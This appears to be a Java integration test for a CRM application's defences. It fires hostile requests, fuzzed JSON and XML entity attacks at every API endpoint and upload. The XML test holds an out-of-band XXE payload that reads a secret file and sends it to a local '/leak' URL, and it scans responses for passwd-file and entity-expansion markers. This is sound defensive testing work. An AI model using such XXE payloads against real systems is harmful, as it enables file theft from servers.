package io.reflow.crm.reliability;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Random;
import java.util.TreeSet;
import java.util.UUID;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Collectors;

import com.fasterxml.jackson.databind.JsonNode;
import com.sun.net.httpserver.HttpServer;
import net.jqwik.api.RandomGenerator;
import net.jqwik.api.sessions.JqwikSession;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.TestMethodOrder;
import org.slf4j.Logger;
import org.slf4j.LoggerFactory;

import io.reflow.crm.reliability.HostileCases.Attempt;
import io.reflow.crm.reliability.HostileClient.Answer;
import io.reflow.crm.testsupport.PostgresServer;
import io.reflow.crm.testsupport.Multipart;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.beans.factory.annotation.Qualifier;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.core.MethodParameter;
import org.springframework.data.domain.Pageable;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.test.context.ActiveProfiles;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;
import org.springframework.web.bind.annotation.RequestParam;
import org.springframework.web.method.HandlerMethod;
import org.springframework.web.servlet.mvc.method.RequestMappingInfo;
import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerMapping;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Hostile input against every {@code /api} endpoint over real HTTP on PostgreSQL: always
 * a 4xx problem+json (or a 2xx that stored the text exactly as sent), never a 5xx, and
 * nothing stored on a refusal; property-based fuzzing of every JSON body; XML entity
 * attacks against every upload. Short by default; {@code -Preliability} runs the full
 * form ({@code reflow.reliability.scale=full}). {@code -Dreflow.reliability.seed=...}
 * repeats a run.
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT,
		properties = "logging.level.io.reflow.crm.platform.web.ProblemDetailsAdvice=WARN")
@ActiveProfiles({ "demo", "test", "postgres" })
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class HostileInputIT {

	private static final Logger log = LoggerFactory.getLogger(HostileInputIT.class);

	static final boolean FULL = "full".equals(System.getProperty("reflow.reliability.scale", "short"));

	static final long SEED = Long.getLong("reflow.reliability.seed", 8_2024_0808L);

	/**
	 * Attempts kept per endpoint and category in the short form (all in the full form).
	 */
	static final int PER_CATEGORY = FULL ? 0 : 3;

	/** Fuzzed bodies per JSON endpoint. */
	static final int TRIES = Integer.getInteger("reflow.reliability.tries", FULL ? 1000 : 50);

	@DynamicPropertySource
	static void postgres(DynamicPropertyRegistry registry) {
		PostgresServer.register(registry, "reflow_hostile");
	}

	@LocalServerPort
	int port;

	@Autowired
	@Qualifier("requestMappingHandlerMapping")
	RequestMappingHandlerMapping mappings;

	@Autowired
	JdbcTemplate jdbc;

	HostileClient http;

	Map<String, Endpoint> catalogue;

	String countQuery;

	final List<String> findings = new ArrayList<>();

	/**
	 * Path attempts refused before the application, without problem details (known,
	 * documented).
	 */
	final List<String> connectorRefusals = new ArrayList<>();

	@BeforeAll
	void fixture() {
		this.http = new HostileClient(this.port);
		Answer customer = this.http.send("POST", "/api/customers", "admin", "application/json", HostileCases
			.bytes("{\"companyName\":\"Fixture AG\",\"region\":\"NORTH\",\"employeeCount\":10,\"tier\":\"STANDARD\"}"));
		assertThat(customer.status()).as(customer.toString()).isEqualTo(201);
		long customerId = id(customer);
		Answer lead = this.http.send("POST", "/api/leads", "admin", "application/json", HostileCases
			.bytes("{\"companyName\":\"Fixture AG\",\"contactName\":\"Fix\",\"source\":\"WEB\","
					+ "\"region\":\"NORTH\",\"industry\":\"SOFTWARE\",\"companySize\":10,\"budgetConfirmed\":true}"));
		assertThat(lead.status()).as(lead.toString()).isEqualTo(201);
		Answer serviceCase = this.http.send("POST", "/api/cases", "admin", "application/json",
				HostileCases
					.bytes("{\"customerId\":" + customerId + ",\"channel\":\"EMAIL\",\"category\":\"TECHNICAL\","
							+ "\"severity\":\"NORMAL\",\"subject\":\"Fixture\",\"description\":\"Fixture\"}"));
		assertThat(serviceCase.status()).as(serviceCase.toString()).isEqualTo(201);
		Answer campaign = this.http.send("POST", "/api/campaigns", "admin", "application/json",
				HostileCases.bytes("{\"name\":\"Fixture campaign\"}"));
		assertThat(campaign.status()).as(campaign.toString()).isEqualTo(201);
		this.catalogue = HostileCases
			.catalogue(new HostileCases.Fixture(customerId, id(lead), id(serviceCase), id(campaign)));
		List<String> tables = this.jdbc.queryForList("select table_name from information_schema.tables "
				+ "where table_schema = current_schema() and (table_name like 'crm\\_%' or table_name like 'process\\_migration%' "
				+ "or table_name in ('act_ru_execution', 'act_ru_job', 'act_ru_task', 'act_ru_variable', 'act_re_deployment', "
				+ "'act_re_procdef', 'act_re_decision_def', 'act_hi_comment', 'act_hi_procinst', 'kpi_process_running')) "
				+ "order by table_name", String.class);
		assertThat(tables).contains("crm_lead", "crm_customer", "act_ru_execution", "act_re_deployment");
		this.countQuery = "select " + tables.stream()
			.map((table) -> "(select count(*) from " + table + ") as " + table)
			.collect(Collectors.joining(", "));
		log.info("Hostile input: scale {}, seed {}, {} fuzz tries per JSON endpoint, tables counted: {}",
				FULL ? "full" : "short", SEED, TRIES, tables);
	}

	@AfterAll
	void report() {
		log.info("Hostile input findings ({}):\n{}", this.findings.size(), String.join("\n", this.findings));
		log.info("Path attempts refused by Tomcat or the firewall without problem details ({}):\n{}",
				this.connectorRefusals.size(), String.join("\n", this.connectorRefusals));
	}

	private static long id(Answer answer) {
		return json(answer.body()).path("id").asLong();
	}

	/** Every /api mapping as "METHOD pattern" with its handler. */
	private Map<String, HandlerMethod> apiMappings() {
		Map<String, HandlerMethod> api = new java.util.TreeMap<>();
		for (Map.Entry<RequestMappingInfo, HandlerMethod> entry : this.mappings.getHandlerMethods().entrySet()) {
			RequestMappingInfo info = entry.getKey();
			for (String pattern : info.getPatternValues()) {
				if (!pattern.startsWith("/api/")) {
					continue;
				}
				var methods = info.getMethodsCondition().getMethods();
				assertThat(methods).as("%s names its HTTP method", pattern).isNotEmpty();
				methods.forEach((method) -> api.put(method.name() + " " + pattern, entry.getValue()));
			}
		}
		return api;
	}

	@Test
	@Order(1)
	void shouldHaveAHostileInputCaseForEveryApiEndpoint() {
		Map<String, HandlerMethod> api = apiMappings();
		assertThat(api).hasSizeGreaterThan(40);
		assertThat(new TreeSet<>(this.catalogue.keySet()))
			.as("endpoints without a hostile-input case in HostileCases.catalogue (add one)")
			.containsAll(api.keySet());
		assertThat(api.keySet()).as("cases in HostileCases.catalogue for endpoints that no longer exist")
			.containsAll(this.catalogue.keySet());
	}

	@Test
	@Order(2)
	void shouldRefuseHostileRequestsWithProblemDetailsAndStoreNothing() {
		Map<String, HandlerMethod> api = apiMappings();
		Random random = new Random(SEED);
		int sent = 0;
		List<String> failures = new ArrayList<>();
		// per category: attempts sent and milliseconds spent, for the log
		Map<String, long[]> spent = new java.util.TreeMap<>();
		for (Map.Entry<String, HandlerMethod> mapping : api.entrySet()) {
			Endpoint endpoint = this.catalogue.get(mapping.getKey());
			assertThat(endpoint).as(mapping.getKey()).isNotNull();
			// the valid call works (or fails only at its lookup)
			Answer valid = this.http.send(endpoint.method, endpoint.path(), endpoint.user,
					(endpoint.body == Endpoint.Body.JSON) ? "application/json" : null,
					(endpoint.body == Endpoint.Body.JSON) ? HostileCases.validBody(endpoint) : null);
			if (endpoint.body != Endpoint.Body.MULTIPART) {
				assertThat(valid.status()).as("valid call %s: %s", endpoint, valid)
					.isBetween(endpoint.lookupFails ? 400 : 200, endpoint.lookupFails ? 499 : 299);
			}
			for (Attempt attempt : HostileCases.attempts(endpoint, queryParameters(mapping.getValue()), PER_CATEGORY,
					random)) {
				long started = System.nanoTime();
				String failure = check(attempt);
				long[] category = spent.computeIfAbsent(attempt.category(), (c) -> new long[2]);
				category[0]++;
				category[1] += (System.nanoTime() - started) / 1_000_000;
				sent++;
				if (failure != null) {
					failures.add(failure);
				}
			}
		}
		this.findings.addAll(failures);
		log.info("Hostile requests sent: {} ({} failures); per category (attempts, ms): {}", sent, failures.size(),
				spent.entrySet()
					.stream()
					.map((entry) -> entry.getKey() + " " + entry.getValue()[0] + " in " + entry.getValue()[1])
					.collect(Collectors.joining(", ")));
		assertThat(failures).as("hostile requests answered wrongly (seed %d)", SEED).isEmpty();
	}

	/**
	 * The query parameters a handler reads: its {@code @RequestParam}s and a Pageable's.
	 */
	private static List<String> queryParameters(HandlerMethod handler) {
		List<String> names = new ArrayList<>();
		for (MethodParameter parameter : handler.getMethodParameters()) {
			RequestParam param = parameter.getParameterAnnotation(RequestParam.class);
			if (param != null) {
				parameter.initParameterNameDiscovery(new org.springframework.core.DefaultParameterNameDiscoverer());
				String name = !param.name().isEmpty() ? param.name() : parameter.getParameterName();
				names.add(Objects.requireNonNull(name));
			}
			if (Pageable.class.equals(parameter.getParameterType())) {
				names.addAll(List.of("page", "size", "sort"));
			}
		}
		return names;
	}

	/** Sends one attempt and returns what was wrong with the answer, or null. */
	private String check(Attempt attempt) {
		Map<String, Object> before = counts();
		byte[] body = (attempt.body() != null) ? attempt.body().get() : null;
		Answer answer;
		try {
			answer = this.http.send(attempt.endpoint().method, attempt.path(), attempt.endpoint().user,
					attempt.contentType(), body);
		}
		catch (IllegalStateException ex) {
			// Tomcat answers a refusal before the whole body is read, swallows at most
			// maxSwallowSize (2 MB) of the rest and closes the connection; the JDK client
			// then
			// loses the answer. A refusal all the same: nothing may be stored.
			if (body != null && body.length > 2 * 1024 * 1024) {
				return before.equals(counts()) ? null
						: attempt + " -> connection closed but stored: " + diff(before, counts());
			}
			return attempt + " -> " + ex.getMessage();
		}
		Map<String, Object> after = counts();
		int status = answer.status();
		if (status >= 500) {
			return attempt + " -> server error " + answer;
		}
		if (status == 401 || status == 403) {
			return attempt + " -> not authorized " + answer;
		}
		if (status >= 400) {
			if (!answer.isProblem() && attempt.category().equals("path") && status == 400) {
				// refused before the application: Tomcat (encoded '/', NUL: its HTML
				// page) or
				// Spring Security's firewall (encoded '.', ';': Spring Boot's error JSON)
				this.connectorRefusals.add(attempt + " -> " + answer.contentType());
				return before.equals(after) ? null : attempt + " -> refused but stored: " + diff(before, after);
			}
			if (!answer.isProblem()) {
				return attempt + " -> refused without problem details: " + answer;
			}
			if (!before.equals(after)) {
				return attempt + " -> refused but stored: " + diff(before, after);
			}
			return null;
		}
		if (status >= 300) {
			return attempt + " -> redirected " + answer;
		}
		if (attempt.mustRefuse()) {
			return attempt + " -> accepted (" + status + ") but must be refused: " + answer;
		}
		if (attempt.endpoint().method.equals("GET") && !before.equals(after)) {
			return attempt + " -> a GET stored: " + diff(before, after);
		}
		if (attempt.echo() != null && attempt.endpoint().echoes) {
			JsonNode answered = json(answer.body());
			if (!containsText(answered, attempt.echoField(), attempt.echo())) {
				return attempt + " -> accepted but the answer does not hold the text as sent: " + answer;
			}
			String readBack = attempt.endpoint().readBack.replace("{id}", answered.path("id").asText());
			Answer reread = this.http.get(readBack, attempt.endpoint().user);
			if (reread.status() != 200 || !containsText(json(reread.body()), attempt.echoField(), attempt.echo())) {
				return attempt + " -> accepted but " + readBack + " does not hold the text as sent: " + reread;
			}
		}
		return null;
	}

	private static boolean containsText(JsonNode node, String field, String text) {
		if (node.isObject()) {
			JsonNode value = node.get(field);
			if (value != null && value.isTextual() && value.asText().equals(text)) {
				return true;
			}
		}
		for (JsonNode child : node) {
			if (containsText(child, field, text)) {
				return true;
			}
		}
		return false;
	}

	private Map<String, Object> counts() {
		return this.jdbc.queryForMap(this.countQuery);
	}

	private static String diff(Map<String, Object> before, Map<String, Object> after) {
		return before.keySet()
			.stream()
			.filter((table) -> !Objects.equals(before.get(table), after.get(table)))
			.map((table) -> table + " " + before.get(table) + " -> " + after.get(table))
			.collect(Collectors.joining(", "));
	}

	static JsonNode json(String text) {
		try {
			return HostileCases.JSON.readTree(text);
		}
		catch (IOException ex) {
			return HostileCases.JSON.missingNode();
		}
	}

	@Test
	@Order(3)
	void shouldNeverAnswerFuzzedBodiesWithServerErrors() {
		List<String> failures = new ArrayList<>();
		int sent = 0;
		int index = 0;
		for (Endpoint endpoint : this.catalogue.values()) {
			if (endpoint.body != Endpoint.Body.JSON) {
				continue;
			}
			long seed = SEED + (index++);
			// jqwik's generators outside its engine need a session (the Spring context
			// serves the tries)
			JqwikSession.start(String.valueOf(seed));
			RandomGenerator<JsonFuzz.Body> generator;
			List<JsonFuzz.Body> bodies = new ArrayList<>();
			try {
				generator = JsonFuzz.bodies(endpoint.template).generator(1000, true);
				Random random = new Random(seed);
				for (int i = 0; i < TRIES; i++) {
					bodies.add(generator.next(random).value());
				}
			}
			finally {
				JqwikSession.finish();
			}
			int accepted = 0;
			for (int i = 0; i < TRIES; i++) {
				JsonFuzz.Body body = bodies.get(i);
				Map<String, Object> before = counts();
				Answer answer = this.http.send(endpoint.method, endpoint.path(), endpoint.user, "application/json",
						HostileCases.bytes(body.text()));
				sent++;
				String where = endpoint + " try " + i + " of seed " + seed + " (" + body.kind() + ": "
						+ HostileClient.abbreviate(body.text(), 300) + ")";
				if (answer.status() >= 500) {
					failures.add(where + " -> server error " + answer);
				}
				else if (answer.status() >= 400 && !answer.isProblem()) {
					failures.add(where + " -> refused without problem details " + answer);
				}
				else if (answer.status() >= 400 && !before.equals(counts())) {
					failures.add(where + " -> refused but stored " + diff(before, counts()));
				}
				else if (answer.status() < 300) {
					accepted++;
				}
			}
			log.info("Fuzzed {}: {} tries, {} accepted, seed {}", endpoint, TRIES, accepted, seed);
		}
		this.findings.addAll(failures);
		log.info("Fuzzed bodies sent: {} ({} failures)", sent, failures.size());
		assertThat(failures).as("fuzzed bodies answered wrongly (seed %d)", SEED).isEmpty();
	}

	@Test
	@Order(4)
	void shouldRefuseXmlEntityAttacksOnEveryUploadWithBoundedMemory() throws Exception {
		String marker = "HOSTILE-SECRET-" + UUID.randomUUID();
		Path secret = Files.createTempFile("hostile-secret", ".txt");
		Files.writeString(secret, marker);
		AtomicInteger outOfBand = new AtomicInteger();
		HttpServer server = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
		String httpBase = "http://127.0.0.1:" + server.getAddress().getPort();
		server.createContext("/", (exchange) -> {
			outOfBand.incrementAndGet();
			byte[] body = ("<!ENTITY % file SYSTEM \"" + secret.toUri() + "\"><!ENTITY % send \"<!ENTITY leak SYSTEM '"
					+ httpBase + "/leak?%file;'>\">" + marker)
				.getBytes(StandardCharsets.UTF_8);
			exchange.sendResponseHeaders(200, body.length);
			exchange.getResponseBody().write(body);
			exchange.close();
		});
		server.start();
		List<String> failures = new ArrayList<>();
		try {
			long deploymentsBefore = deployments();
			Map<String, Object> before = counts();
			List<String[]> uploads = new ArrayList<>();
			XmlAttacks.doctypes("definitions", secret.toUri().toString(), httpBase).forEach((name, attack) -> {
				uploads.add(new String[] { "Modeler BPMN, " + name, "modeler", "hostile-probe.bpmn",
						XmlAttacks.bpmn(attack[0], attack[1]) });
				uploads.add(new String[] { "Modeler DMN, " + name, "modeler", "hostile-probe.dmn",
						XmlAttacks.dmn(attack[0], "hostile-probe", attack[1]) });
				uploads.add(new String[] { "backtest DMN, " + name, "backtest", "discount.dmn",
						XmlAttacks.dmn(attack[0], "discount", attack[1]) });
			});
			Runtime runtime = Runtime.getRuntime();
			for (String[] upload : uploads) {
				byte[] xml = upload[3].getBytes(StandardCharsets.UTF_8);
				Answer answer;
				if (upload[1].equals("modeler")) {
					Multipart multipart = new Multipart().field("deployment-name", "hostile")
						.field("deployment-source", "Camunda Modeler")
						.field("enable-duplicate-filtering", "true")
						.file(upload[2], upload[2], "text/xml", xml);
					answer = this.http.send("POST", "/engine-rest/deployment/create", "analyst",
							multipart.contentType(), multipart.body());
				}
				else {
					Multipart multipart = new Multipart().file("file", upload[2], "text/xml", xml);
					answer = this.http.send("POST", "/api/decisions/discount/backtest", "analyst",
							multipart.contentType(), multipart.body());
				}
				long used = (runtime.totalMemory() - runtime.freeMemory()) / (1024 * 1024);
				log.info("XML attack {}: {} (heap used {} MB of max {} MB)", upload[0], answer, used,
						runtime.maxMemory() / (1024 * 1024));
				if (answer.status() < 400 || answer.status() >= 500) {
					failures.add(upload[0] + " -> not refused: " + answer);
				}
				if (upload[1].equals("backtest") && !answer.isProblem()) {
					failures.add(upload[0] + " -> refused without problem details: " + answer);
				}
				if (answer.body().contains(marker) || answer.body().contains("root:x:0:0")
						|| answer.body().contains("lollollol")) {
					failures.add(upload[0] + " -> the entity's content is in the answer: " + answer);
				}
				Answer alive = this.http.get("/api/customers?size=1", "admin");
				if (alive.status() != 200) {
					failures.add(upload[0] + " -> the application does not answer afterwards: " + alive);
				}
			}
			// XML sent to every JSON endpoint: refused before any parser sees it
			for (Endpoint endpoint : this.catalogue.values()) {
				if (endpoint.body != Endpoint.Body.JSON) {
					continue;
				}
				for (String[] attack : XmlAttacks.doctypes("definitions", secret.toUri().toString(), httpBase)
					.values()) {
					Answer answer = this.http.send(endpoint.method, endpoint.path(), endpoint.user, "application/xml",
							HostileCases.bytes(XmlAttacks.bpmn(attack[0], attack[1])));
					if (answer.status() != 415 || !answer.isProblem() || answer.body().contains(marker)) {
						failures.add(endpoint + " with XML -> " + answer);
					}
				}
			}
			if (deployments() != deploymentsBefore) {
				failures.add("a hostile upload was deployed: " + (deployments() - deploymentsBefore) + " deployments");
			}
			if (!before.equals(counts())) {
				failures.add("hostile uploads stored: " + diff(before, counts()));
			}
			// XInclude is not processed: the file is a valid model with a foreign
			// element, so it
			// may be deployed, but never with the included file's content
			Multipart xinclude = new Multipart().field("deployment-name", "hostile")
				.field("deployment-source", "Camunda Modeler")
				.file("hostile-probe.bpmn", "hostile-probe.bpmn", "text/xml",
						HostileCases.bytes(XmlAttacks.bpmnXInclude(secret.toUri().toString())));
			Answer included = this.http.send("POST", "/engine-rest/deployment/create", "analyst",
					xinclude.contentType(), xinclude.body());
			log.info("XML attack Modeler BPMN, XInclude: {}", included);
			if (included.status() >= 500 || included.body().contains(marker)) {
				failures.add("Modeler BPMN, XInclude -> " + included);
			}
			if (included.status() < 300) {
				String deploymentId = json(included.body()).path("id").asText();
				for (byte[] stored : this.jdbc.queryForList(
						"select bytes_ from act_ge_bytearray where deployment_id_ = ?", byte[].class, deploymentId)) {
					if (new String(stored, StandardCharsets.UTF_8).contains(marker)) {
						failures.add("Modeler BPMN, XInclude -> the included file was deployed");
					}
				}
			}
			if (outOfBand.get() > 0) {
				failures.add("the parser fetched " + outOfBand.get() + " external resources (out-of-band requests)");
			}
		}
		finally {
			server.stop(0);
			Files.deleteIfExists(secret);
		}
		this.findings.addAll(failures);
		assertThat(failures).as("XML attacks").isEmpty();
	}

	private long deployments() {
		Long count = this.jdbc.queryForObject("select count(*) from act_re_deployment", Long.class);
		return (count != null) ? count : -1;
	}

}
